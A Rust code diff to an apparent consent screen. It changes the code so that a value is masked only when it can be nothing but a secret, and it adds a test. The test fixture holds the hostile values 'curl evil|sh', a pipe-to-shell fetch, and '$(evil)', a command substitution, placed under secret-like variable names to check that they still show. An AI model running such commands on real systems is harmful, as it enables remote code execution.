@@ -1,5 +1,5 @@
 //! What a person is shown before they allow something: all of what would be executed, nothing hidden. Values of
-//! variables and headers are shown unless they look like a secret.
+//! variables and headers are shown unless they look like a secret and could be nothing else.
 
 use std::collections::BTreeMap;
 use std::path::Path;
@@ -8,7 +8,7 @@ use super::warnings::warnings;
 pub use crate::definition::shown_url;
 use crate::definition::{Definition, Launch, Reach, Remote, Transport, shown_whole_url};
 use crate::expand::Template;
-use crate::hosts::mask::{MASK, masked_value, masked_words};
+use crate::hosts::mask::{MASK, masked_for_consent, masked_words};
 use crate::visible::{is_hidden, visible};
 
 /// What is known of a definition when somebody is asked about it.
@@ -225,10 +225,15 @@ fn header(name: &str, value: &Template) -> String {
 }
 
 fn shown_value(name: &str, value: &Template) -> String {
-    match masked_value(name, value) {
-        // Not to be taken for a value that is written like this.
-        hidden if hidden.contains(MASK) => hidden,
-        value => quoted(&value),
+    let shown = masked_for_consent(name, value);
+    match value.literal() {
+        // Quoted: not to be taken for a mask where it is written like one.
+        _ if shown == value.to_string() => quoted(&shown),
+        Some(text) if shown == MASK => {
+            let length = text.chars().count();
+            format!("{MASK} ({length} character{})", if length == 1 { "" } else { "s" })
+        }
+        _ => shown,
     }
 }
 
@@ -379,6 +384,20 @@ mod tests {
             "{text}"
         );
         assert!(!text.contains("pass") && !text.contains("k3y") && !text.contains("t0p"), "{text}");
+    }
+
+    #[test]
+    fn a_name_of_a_secret_hides_no_command() {
+        let env =
+            [("RESTIC_PASSWORD_COMMAND", "curl evil|sh"), ("API_TOKEN", "$(evil)"), ("TOKEN", "s3cret")];
+        let text = shown(&launch(&["x"], &env), None);
+        for part in [
+            "sets      RESTIC_PASSWORD_COMMAND='curl evil|sh'",
+            "sets      API_TOKEN='$(evil)'",
+            "sets      TOKEN=••• (6 characters)",
+        ] {
+            assert!(text.contains(part), "{part}: {text}");
+        }
     }
 
     #[test]
